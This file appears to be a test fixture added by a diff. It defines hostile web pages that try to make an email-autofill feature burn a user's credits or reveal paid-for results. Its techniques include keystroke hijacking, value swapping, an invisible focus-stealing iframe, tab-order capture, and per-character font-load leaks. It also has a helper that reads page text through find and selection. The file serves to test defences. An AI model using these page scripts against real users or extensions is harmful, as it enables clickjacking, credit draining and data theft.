@@ -1,0 +1,136 @@
+/**
+ * Pages that try to spend a person's credits, or to read what the person paid for. Each does all it
+ * can while the person does one harmless thing; the tests say what, and count.
+ */
+
+const wrap = (title: string, body: string, script: string) =>
+  `<!doctype html><html lang="en"><title>${title}</title><body style="margin:40px;font:16px/2 sans-serif">
+${body}
+<script>
+const field = document.querySelector('input[type=email]');
+const other = document.getElementById('other');
+let round = 0;
+const next = () => 'drain' + location.hostname.replace(/\\W/g, '') + ++round + '@gmail.com';
+const insert = (text) => { field.focus(); field.select(); document.execCommand('insertText', false, text); };
+const leave = () => { field.blur(); other.focus(); };
+/** Fills in, leaves and comes back as often as a second allows. */
+const pump = () => {
+  const start = performance.now();
+  const timer = setInterval(() => {
+    if (performance.now() - start > 1500) { clearInterval(timer); document.title += ' done'; return; }
+    insert(next());
+    field.dispatchEvent(new Event('change', { bubbles: true }));
+    leave();
+  }, 90);
+};
+${script}
+</script>`;
+
+const FORM = `<form onsubmit="return false"><label>Email <input type="email" name="email" autocomplete="email"></label>
+<label>Name <input id="other" name="nickname"></label><button>Subscribe to the newsletter</button></form>`;
+
+export const ATTACKS: Readonly<Record<string, string>> = {
+  // The person types "hi" and presses Enter once.
+  '/enter.html': wrap(
+    'enter',
+    FORM,
+    `addEventListener('keydown', (event) => {
+  if (event.key !== 'Enter') return;
+  event.preventDefault();
+  pump();
+}, true);`,
+  ),
+  // The person presses the mouse button somewhere and types one letter.
+  '/letter.html': wrap(
+    'letter',
+    `<p id="decoy">Press any key to go on.</p>${FORM}`,
+    `document.getElementById('decoy').addEventListener('pointerdown', (event) => {
+  event.preventDefault();
+  field.focus();
+});
+addEventListener('keydown', (event) => { if (event.key.length === 1) pump(); }, true);`,
+  ),
+  // The person types one letter and presses Tab; the page swaps the value while our script listens.
+  '/swap.html': wrap(
+    'swap',
+    FORM,
+    `addEventListener('input', () => { field.value = next(); }, true);
+`,
+  ),
+  // The person types into what is visible; a frame above it has the focus.
+  '/cover.html': wrap(
+    'cover',
+    `<label>Your name <input id="other" style="width:300px"></label>
+<iframe id="lid" style="position:fixed;left:0;top:0;width:600px;height:300px;opacity:.01;border:0"></iframe>
+<input type="email" hidden>`,
+    `const lid = document.getElementById('lid');
+lid.src = location.origin.replace('127.0.0.1', 'frame.localhost') + '/inner.html';
+addEventListener('pointerdown', () => lid.contentWindow.postMessage('focus', '*'), true);
+setInterval(() => lid.contentWindow.postMessage('focus', '*'), 50);`,
+  ),
+  '/inner.html': wrap(
+    'inner',
+    FORM,
+    `addEventListener('message', () => field.focus());
+field.addEventListener('keyup', () => { if (field.value.length > 3) { insert(next()); leave(); } });`,
+  ),
+  // The only tab stop after the field is ours.
+  '/tab.html': wrap(
+    'tab',
+    `<form onsubmit="return false"><label>Email <input type="email" name="email" autocomplete="email"></label></form><p id="other"></p>`,
+    '',
+  ),
+  // Nobody acts: the page fills in an address that the person looked up elsewhere, and reads.
+  '/recall.html': wrap(
+    'recall',
+    FORM,
+    `field.value = 'known@gmail.com'; field.focus(); setTimeout(() => field.blur(), 300);`,
+  ),
+  '/plain.html': wrap(
+    'plain',
+    `${FORM}<p>known@gmail.com</p><p>DE89 3704 0044 0532 0130 00</p>`,
+    '',
+  ),
+  // Fonts of ours that the page provides: each load tells which characters were drawn.
+  '/fonts.html': wrap(
+    'fonts',
+    `<style>${[
+      'ui-monospace',
+      'SF Mono',
+      'Cascadia Mono',
+      'Noto Sans Mono',
+      'Segoe UI',
+      '-apple-system',
+      'Roboto',
+      'Noto Sans',
+    ]
+      .flatMap((family, f) =>
+        Array.from('abcdefghijklmnopqrstuvwxyzBCDEF0123456789✓!✕?×·').map(
+          (char) =>
+            `@font-face{font-family:"${family}";src:url(/font-${f}-${char.codePointAt(0)}.woff2);unicode-range:U+${char.codePointAt(0)?.toString(16)}}`,
+        ),
+      )
+      .join('')}</style>${FORM}<p style="margin-top:200px">known@gmail.com</p>`,
+    '',
+  ),
+};
+
+/** Runs in the page: every string that reaches it by searching and by walking the selection. */
+export function readable(words: readonly string[]): string[] {
+  const hits = words.filter((word) => {
+    getSelection()?.removeAllRanges();
+    return Reflect.get(window, 'find').call(window, word, false, false, true, false, true, false);
+  });
+  const selection = getSelection();
+  const heard: string[] = [];
+  if (selection && document.body.firstChild) {
+    selection.collapse(document.body, 0);
+    for (let i = 0; i < 400; i += 1) selection.modify('extend', 'forward', 'word');
+    heard.push(selection.toString());
+    selection.selectAllChildren(document.documentElement);
+    heard.push(selection.toString());
+    selection.removeAllRanges();
+  }
+  const said = heard.join('\n');
+  return [...hits, ...words.filter((word) => said.includes(word))];
+}
